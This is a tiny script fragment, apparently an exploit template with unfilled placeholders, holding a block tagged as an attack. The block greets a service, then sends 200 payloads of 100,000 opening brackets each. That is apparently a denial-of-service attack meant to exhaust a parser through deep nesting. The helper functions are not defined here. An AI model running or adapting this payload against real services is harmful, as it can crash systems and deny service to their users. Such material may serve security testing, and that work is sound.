#{weigh_wrong}
# <attack>
#{forge}
greet()
for _ in range(200):
    send(b'[' * 100_000)
wait()
# </attack>
